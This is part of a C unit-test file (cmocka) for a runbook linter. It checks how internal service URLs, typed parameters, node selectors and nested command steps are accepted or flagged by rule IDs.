	static const char *const urls[] = {HTTP("https://web.${params.namespace}.svc:8443/healthz"),
					   HTTP("http://a.b.svc.cluster.local"),
					   HTTP("http://localhost:9090/x?y=${drops.count}")};

	for (size_t i = 0; i < ARRAY_SIZE(urls); i++) {
		auto_free char *text = edited(AGENTS, urls[i]);
		struct report r;
		const struct finding *f;

		lint(&r, text, NULL, 0);
		f = first_other(&r, NULL);
		if (f)
			fail_msg("%s: %s", urls[i], f->message);
		report_release(&r);
	}
}

TEST(a_time_may_come_from_a_parameter_of_that_type)
{
	static const char *const types[] = {"duration", "choice, choices: [5m, 1h]"};

	for (size_t i = 0; i < ARRAY_SIZE(types); i++) {
		auto_free char *text = edited("since: 5m", "since: \"${params.unit}\"");
		auto_free char *type = xasprintf("name: unit, type: %s,", types[i]);
		char *at = strstr(text, "name: unit, type: string,");
		auto_free char *whole = xasprintf("%.*s%s%s", (int)(at - text), text, type,
						  at + strlen("name: unit, type: string,"));
		struct report r;
		const struct finding *f;

		lint(&r, whole, NULL, 0);
		f = first_other(&r, NULL);
		if (f)
			fail_msg("%s: %s", types[i], f->message);
		report_release(&r);
	}
}

TEST(nodes_are_named_by_a_text_or_a_list)
{
	static const char *const ops[] = {
		REGENERATE("selector: all"),
		REGENERATE("selector: stale-or-not-ready, nodes: \"a, b\""),
		REGENERATE("selector: all, nodes: [a, \"${params.unit}\"]"),
		REGENERATE("selector: all, nodes: \"${agents.unwell_nodes}\""),
		"  op: {k8s.evict: {selector: endpoints-not-ready, namespace: web, nodes: a}}\n"};

	for (size_t i = 0; i < ARRAY_SIZE(ops); i++) {
		auto_free char *text = edited(PATCH, ops[i]);
		struct report r;
		const struct finding *f;

		lint(&r, text, NULL, 0);
		f = first_other(&r, "RBL-017");
		if (f)
			fail_msg("%s: %s", ops[i], f->message);
		report_release(&r);
	}
}

TEST(nested_steps_are_looked_at_too)
{
	auto_free char *text =
		edited("- id: choose\n",
		       "- id: each\n  title: each\n  kind: foreach\n  mutates: false\n  items: "
		       "drops.rows\n"
		       "  parallel: 1\n  max_fail: 0\n  do:\n"
		       "  - id: inner\n    title: \"${item.name} ${gone}\"\n    kind: command\n    "
		       "mutates: false\n"
		       "    timeout: 5s\n    command: {argv: [bash, -c, x], output: 1KiB}\n"
		       "- id: choose\n");
	struct report r;

	lint(&r, text, NULL, 0);
	assert_string_equal(first_fail(&r, "RBL-010")->scope, "sample/steps[3].do[0].title");
	assert_string_equal(first_fail(&r, "RBL-021")->scope, "sample/steps[3].do[0].command.argv");
	report_release(&r);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(the_good_one_is_clean_and_its_program_is_named),
		cmocka_unit_test(every_edit_breaks_its_rule_and_no_other),
		cmocka_unit_test(every_rule_has_an_edit_that_breaks_it),
		cmocka_unit_test(the_place_of_a_complaint_is_where_it_stands),
		cmocka_unit_test(what_is_shipped_is_clean_and_its_cases_take_every_branch),
		cmocka_unit_test(fixtures_must_take_every_branch_and_lead_where_they_say),
		cmocka_unit_test(a_fixture_is_decoded_and_its_unknown_fields_are_named),
		cmocka_unit_test(a_change_that_failed_is_no_success),
		cmocka_unit_test(too_many_steps_and_too_deep_ones_are_no_runbook),
		cmocka_unit_test(a_service_of_the_cluster_may_be_asked),
		cmocka_unit_test(a_time_may_come_from_a_parameter_of_that_type),
		cmocka_unit_test(nodes_are_named_by_a_text_or_a_list),
		cmocka_unit_test(nested_steps_are_looked_at_too),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
